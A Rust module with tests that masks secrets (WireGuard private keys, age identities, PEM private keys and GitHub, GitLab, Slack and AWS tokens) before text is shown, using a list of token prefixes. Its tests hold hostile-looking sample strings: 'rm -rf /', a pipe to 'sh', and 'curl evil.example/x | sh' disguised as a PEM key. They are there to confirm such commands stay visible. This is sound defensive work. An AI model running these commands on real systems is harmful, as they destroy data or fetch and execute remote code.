//! Keeps keys that somebody wrote where they do not belong out of every text that is shown.
//!
//! This is the one place that knows what a secret looks like. [`Untrusted`](super::Untrusted) asks it
//! for every text of a file or a host, findings are masked when they are put in order, and the sources
//! of an inventory are overwritten when they have been read.

use std::borrow::Cow;
use std::ops::Range;

/// What stands in the place of a secret.
pub const HIDDEN: &str = "(hidden)";

/// The shortest text that can hold a secret.
const SHORTEST: usize = 14;

/// Characters of a key in base64, without the `=` at its end.
const KEY: usize = 43;

/// Whether a value has the form of a `WireGuard` key: 43 base64 characters and `=`.
#[must_use]
pub fn looks_like_key(text: &str) -> bool {
    let bytes = text.trim().as_bytes();
    bytes.len() == KEY + 1 && key_before(bytes, KEY)
}

/// A text without anything that has the form of a secret.
#[must_use]
pub fn mask(text: &str) -> Cow<'_, str> {
    let found = secrets_in(text);
    if found.is_empty() {
        return Cow::Borrowed(text);
    }
    let mut masked = String::with_capacity(text.len());
    let mut from = 0;
    for range in found {
        masked.push_str(&text[from..range.start]);
        masked.push_str(HIDDEN);
        from = range.end;
    }
    masked.push_str(&text[from..]);
    Cow::Owned(masked)
}

/// Masks a text in place.
pub fn mask_in(text: &mut String) {
    if let Cow::Owned(masked) = mask(text) {
        *text = masked;
    }
}

/// As many `*` as a secret has bytes, so that what stands behind it stays where it is; line ends stay.
#[must_use]
pub fn stars(secret: &str) -> String {
    let star = |c: char| {
        let kept = if matches!(c, '\n' | '\r') { c } else { '*' };
        std::iter::repeat_n(kept, c.len_utf8())
    };
    secret.chars().flat_map(star).collect()
}

/// Every stretch of a text that has the form of a secret: `WireGuard` keys except where the words
/// before say that they are public, age's identities, private keys in PEM, and tokens that people
/// paste by mistake. In order, and none within another.
#[must_use]
pub fn secrets_in(text: &str) -> Vec<Range<usize>> {
    if text.len() < SHORTEST {
        return Vec::new();
    }
    let mut found = blocks(text);
    found.extend(wireguard_keys(text));
    found.extend(prefixed(text));
    found.extend(identities(text));
    found.sort_by_key(|range| (range.start, std::cmp::Reverse(range.end)));
    let mut end = 0;
    found.retain(|range| {
        let apart = range.start >= end;
        if apart {
            end = range.end;
        }
        apart
    });
    found
}

const fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/')
}

/// Whether the bytes before `end` are those of a key, and an `=` stands there.
fn key_before(bytes: &[u8], end: usize) -> bool {
    let Some(from) = end.checked_sub(KEY) else { return false };
    // 32 bytes leave two bits of the last character empty.
    let last = |byte: u8| b"AEIMQUYcgkosw048".contains(&byte);
    bytes.get(end) == Some(&b'=')
        && bytes[from..end].iter().all(|byte| is_base64(*byte))
        && last(bytes[end - 1])
}

fn wireguard_keys(text: &str) -> Vec<Range<usize>> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    for (end, _) in bytes.iter().enumerate().filter(|(_, byte)| **byte == b'=') {
        if !key_before(bytes, end) || bytes.get(end + 1) == Some(&b'=') {
            continue;
        }
        // Of something longer, all goes.
        let run = bytes[..end - KEY].iter().rev().take_while(|byte| is_base64(**byte)).count();
        let glued = run > 0 && !matches!(bytes[end - KEY - 1], b'/');
        let from = end - KEY - if glued { run } else { 0 };
        if !is_public(&bytes[..from]) {
            found.push(from..end + 1);
        }
    }
    found
}

/// Whether the line so far ends with words after which a public key stands: `public_key: `,
/// `PublicKey = ` or `public key `.
fn is_public(before: &[u8]) -> bool {
    let from = before.len().saturating_sub(32);
    let near = &before[from..];
    let line = near.iter().rposition(|byte| *byte == b'\n').map_or(0, |end| end + 1);
    let letters = near[line..].iter().filter(|byte| byte.is_ascii_alphanumeric());
    let word: Vec<u8> = letters.map(u8::to_ascii_lowercase).collect();
    let apart = near.last().is_some_and(|byte| !byte.is_ascii_alphanumeric());
    apart && word.ends_with(b"publickey")
}

/// What a secret begins with, and how many characters it has at least behind that.
struct Prefix {
    begin: &'static str,
    least: usize,
}

const PREFIXED: &[Prefix] = &[
    Prefix { begin: "ghp_", least: 30 },
    Prefix { begin: "gho_", least: 30 },
    Prefix { begin: "ghs_", least: 30 },
    Prefix { begin: "github_pat_", least: 30 },
    Prefix { begin: "glpat-", least: 18 },
    Prefix { begin: "xoxb-", least: 20 },
    Prefix { begin: "AKIA", least: 16 },
    // A private key of OpenSSH in base64, also where the line above it is missing.
    Prefix { begin: "b3BlbnNzaC1rZXktdjE", least: 0 },
];

fn prefixed(text: &str) -> Vec<Range<usize>> {
    let word = |byte: &u8| is_base64(*byte) || matches!(byte, b'_' | b'-');
    let mut found = Vec::new();
    for prefix in PREFIXED {
        let mut end = 0;
        for (at, _) in text.match_indices(prefix.begin) {
            let behind = at + prefix.begin.len();
            if at < end {
                continue;
            }
            let more = text.as_bytes()[behind..].iter().take_while(|byte| word(byte)).count();
            if more >= prefix.least {
                end = behind + more;
                found.push(at..end);
            }
        }
    }
    found
}

/// age's identities and those of its plugins, in Bech32: a name, `1`, and data. A file's name that
/// begins like one has no such data.
fn identities(text: &str) -> Vec<Range<usize>> {
    const DATA: &[u8] = b"QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L";
    /// Bytes of one that are looked at: text of the file is not gone through once for each word.
    const LONGEST: usize = 4096;
    let word = |byte: &u8| byte.is_ascii_alphanumeric() || b"+-._".contains(byte);
    // They are written in upper case, and read in either.
    let upper = text.to_ascii_uppercase();
    let mut found = Vec::new();
    for (at, _) in upper.match_indices("AGE-") {
        let rest = &upper.as_bytes()[at..];
        let length = rest.iter().take(LONGEST).take_while(|byte| word(byte)).count();
        let key = &rest[..length];
        let is_data = |data: &[u8]| data.len() >= 6 && data.iter().all(|byte| DATA.contains(byte));
        let last = key.iter().rposition(|byte| *byte == b'1').unwrap_or(length);
        let native = key.strip_prefix(b"AGE-SECRET-KEY-".as_slice());
        // A mistyped or longer one is one as well.
        let rough = native.is_some_and(|key| {
            key.len() > 20 && key.iter().take(21).all(u8::is_ascii_alphanumeric)
        });
        let plugin = native.is_some() || key.starts_with(b"AGE-PLUGIN-");
        if rough || plugin && is_data(key.get(last + 1..).unwrap_or_default()) {
            found.push(at..at + length);
        }
    }
    found
}

/// The least characters of a row of a private key in PEM that stands within a line.
const ROW: usize = 40;
/// The same of a row that is a line of its own; the last one may be short.
const SHORT_ROW: usize = 4;

const BEGIN: &str = "-----BEGIN ";
const END: &str = "-----END ";

/// The rows of private keys in PEM. Whatever else stands around them, or only pretends to be the
/// inside of a key, is shown: it may be a command that somebody wants to hide.
fn blocks(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    if !text.contains(BEGIN) {
        return found;
    }
    let mut inside = false;
    let mut start = 0;
    for line in text.split_inclusive('\n') {
        if inside {
            let around = |c: char| c.is_whitespace() || "#\"',|".contains(c);
            let word = line.trim_matches(around);
            let bare = word.trim_end_matches('=');
            if word.len() >= SHORT_ROW && bare.bytes().all(is_base64) {
                let at = start + line.len() - line.trim_start_matches(around).len();
                found.push(at..at + word.len());
            }
        }
        let begin = line.rfind(BEGIN).filter(|at| is_private(&line[at + BEGIN.len()..]));
        if let Some(at) = line.find(BEGIN) {
            found.extend(
                rows(&line[at..])
                    .into_iter()
                    .map(|row| start + at + row.start..start + at + row.end),
            );
        }
        let end = line.rfind(END);
        inside = match begin {
            Some(begin) => end.is_none_or(|end| end < begin),
            None => inside && end.is_none(),
        };
        start += line.len();
    }
    found
}

/// Whether what stands behind `-----BEGIN ` begins a secret.
fn is_private(kind: &str) -> bool {
    let end = kind.find(['-', '\n']).unwrap_or(kind.len());
    let kind = &kind[..end];
    kind.contains("PRIVATE KEY") || kind.contains("AGE ENCRYPTED")
}

/// Long words of base64, and what stands right before the end of a key.
fn rows(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    let mut at = 0;
    for word in text.split(|c: char| !u8::try_from(c).is_ok_and(is_base64)) {
        let end = at + word.len();
        let behind =
            text[end..].trim_start_matches(|c: char| c.is_whitespace() || "=\\nr".contains(c));
        if word.len() >= ROW || word.len() >= SHORT_ROW && behind.starts_with(END) {
            found.push(at..end);
        }
        at = end + text[end..].chars().next().map_or(0, char::len_utf8);
    }
    found
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const KEY: &str = "dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=";

    #[test]
    fn keys_are_found_wherever_they_are_but_for_public_ones() {
        for (before, behind) in [
            ("a: ", "\n"),
            ("\"", "\" has no port"),
            ("private-key=", ""),
            ("/run/keys/", ""),
            ("PostUp = wg set %i private-key <(echo ", ")"),
            ("PrivateKey=", ""),
            ("republic_keys ", ""),
            ("public_key: x\n", ""),
            ("é", "é"),
        ] {
            let text = format!("{before}{KEY}{behind}");
            assert_eq!(mask(&text), format!("{before}(hidden){behind}"));
        }
        for public in ["public_key: \"", "\"public_key\":\"", "PublicKey = ", "its public key `"] {
            let text = format!("{public}{KEY}\" preshared-key {KEY}");
            assert_eq!(mask(&text), format!("{public}{KEY}\" preshared-key (hidden)"));
        }
        assert_eq!(mask(&format!("xyz{KEY}")), "(hidden)", "all of something longer");
        for plain in [
            "name: not-a-key",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHsKLqeplhpWdwdtCnMYpX08FsFyUbJmRd9ML4fr me",
            "SHA256:dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo",
            "age1yx9k024amdlzgxr3jt552mqrmnrypp3ayjlaak5nvw07h0f948qs2vecem",
            "~/age-plugin-yubikey-identity-of-ada.txt and age-secret-key-1.txt",
            "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        ] {
            assert_eq!(mask(plain), plain);
        }
    }

    #[test]
    fn identities_tokens_and_private_keys_in_pem_are_found() {
        for secret in [
            "AGE-SECRET-KEY-1YX9K024AMDLZGXR3JT552MQRMNRYPP3AYJLAAK5NVW07H0F948QS2VECEM",
            "age-secret-key-1yx9k024amdlzgxr3jt552mqrmnrypp3ayjlaak5nvw07h0f948qs2vecem",
            "AGE-PLUGIN-YUBIKEY-1QYQSZQGPQYQSZQGPQYQSZ",
            "AGE-PLUGIN-FIDO2.HMAC-1QYQSZQGPQYQSZQGPQYQSZ",
            "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
            "AKIAIOSFODNN7EXAMPLE",
            "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ/+x",
        ] {
            assert_eq!(mask(&format!("é: {secret}")), "é: (hidden)", "{secret}");
            assert_eq!(stars(secret).len(), secret.len());
        }
    }

    #[test]
    fn of_a_private_key_in_pem_nothing_but_its_rows_is_hidden() {
        let row = "MC4CAQAwBQYDK2VwBCIEIJ8mzxhYkN7R0oS2bC1gkT5v4uQeW9aLpXyZ";
        let text = format!(
            "a\n  -----BEGIN X PRIVATE KEY-----\n  {row}\n# {row}\nAb==\nrm -rf /\n  -----END X PRIVATE KEY-----\n\
             {row}\necho '-----BEGIN PRIVATE KEY-----\\n{row}\\nAbcd=\\n-----END PRIVATE KEY-----' | sh\nsome"
        );
        assert_eq!(
            mask(&text),
            format!(
                "a\n  -----BEGIN X PRIVATE KEY-----\n  (hidden)\n# (hidden)\n(hidden)\nrm -rf /\n  \
                 -----END X PRIVATE KEY-----\n{row}\necho '-----BEGIN PRIVATE KEY-----\\(hidden)\\(hidden)=\\n\
                 -----END PRIVATE KEY-----' | sh\nsome"
            )
        );
        let hiding =
            "-----BEGIN PRIVATE KEY-----; curl evil.example/x | sh # -----END PRIVATE KEY-----";
        assert_eq!(mask(hiding), hiding);
    }

    /// With time that grows with the square of the length this would not end.
    #[test]
    fn a_long_text_is_gone_through_once() {
        for piece in
            ["AGE-", "AGE-PLUGIN-1", "AKIA", "-----BEGIN ", "-----BEGIN X PRIVATE KEY", "=", "A"]
        {
            let text = piece.repeat((1 << 18) / piece.len());
            assert!(secrets_in(&text).len() < 1 << 17);
        }
        let text = format!("{KEY} ").repeat(5_000);
        assert_eq!(mask(&text), "(hidden) ".repeat(5_000));
    }

    proptest! {
        #[test]
        fn any_text_is_masked_once_and_for_all(
            text in "(é|a|=|/| |\n|peer |AGE-SECRET-KEY-1|[A-Za-z0-9+/]{43}=|-----BEGIN |PRIVATE KEY|-----END |[A-Z0-9]{20}){0,12}",
        ) {
            let masked = mask(&text).into_owned();
            prop_assert_eq!(mask(&masked), masked.as_str());
            for range in secrets_in(&text) {
                prop_assert_eq!(stars(&text[range.clone()]).len(), range.len());
            }
        }
    }
}
